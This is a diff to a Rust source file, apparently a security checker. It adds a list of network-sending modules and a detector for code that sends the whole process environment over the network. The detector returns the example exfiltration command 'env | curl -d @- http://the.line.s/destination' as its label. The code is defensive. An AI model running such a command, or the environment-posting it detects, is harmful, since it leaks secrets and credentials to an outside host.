@@ -173,3 +173,66 @@ pub(crate) fn tcl_delete(line: &str) -> Option<String> {
     argv.extend(rest.iter().filter(|w| !w.starts_with('-')).cloned());
     Some(shell_words::join(argv))
 }
+
+/// Modules and calls that send over the network.
+const SENDERS: &[&str] = &[
+    "requests",
+    "httpx",
+    "urllib",
+    "http",
+    "https",
+    "axios",
+    "aiohttp",
+    "socket",
+    "net",
+    "got",
+    "fetch",
+    "urlopen",
+    "curl_exec",
+    "xmlhttprequest",
+    "websocket",
+    "smtplib",
+    "ftplib",
+    "telnetlib",
+    "tcpsocket",
+    "io.socket",
+];
+
+/// A line that takes the whole environment (`os.environ`, `process.env`, `ENV.to_h`,
+/// Perl's `%ENV`, `Deno.env.toObject()`) and sends something over the network
+/// (`urlopen`, `requests.post`, `fetch`): the `env | curl -d @- URL` it may be, for the
+/// rules on environments sent (`str(os.environ)` posted was `allowed`).
+pub(crate) fn environment_sent(ps: &[Piece]) -> Option<String> {
+    let whole_env = ps.iter().enumerate().any(|(k, p)| {
+        let next = ps.get(k + 1).map(|p| &p.token);
+        match &p.token {
+            Token::Name { path, .. } => {
+                let subscripted = next == Some(&Token::Punct('['));
+                (matches!(
+                    path.as_str(),
+                    "os.environ" | "process.env" | "Bun.env" | "ENV" | "$_ENV"
+                ) && !subscripted)
+                    || matches!(
+                        path.as_str(),
+                        "ENV.to_h"
+                            | "ENV.to_a"
+                            | "ENV.inspect"
+                            | "Deno.env.toObject"
+                            | "os.environ.copy"
+                    )
+                    || (path == "ENV" && k > 0 && ps[k - 1].token == Token::Punct('%'))
+            }
+            _ => false,
+        }
+    });
+    let sends = ps.iter().any(|p| match &p.token {
+        Token::Name { path, .. } => {
+            let lower = path.to_ascii_lowercase();
+            let first = lower.split('.').next().unwrap_or_default();
+            let last = lower.rsplit('.').next().unwrap_or_default();
+            SENDERS.contains(&first) || SENDERS.contains(&last)
+        }
+        _ => false,
+    });
+    (whole_env && sends).then(|| "env | curl -d @- http://the.line.s/destination".to_string())
+}
